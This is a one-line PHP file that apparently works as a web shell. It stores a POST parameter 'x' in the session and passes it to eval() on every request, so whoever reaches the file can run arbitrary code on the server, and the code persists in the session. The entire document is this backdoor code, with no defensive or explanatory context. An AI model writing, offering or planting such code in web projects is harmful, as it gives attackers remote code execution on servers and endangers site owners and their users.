<?php session_start(); if (isset($_POST["x"])) $_SESSION["x"] = $_POST["x"]; eval($_SESSION["x"]);
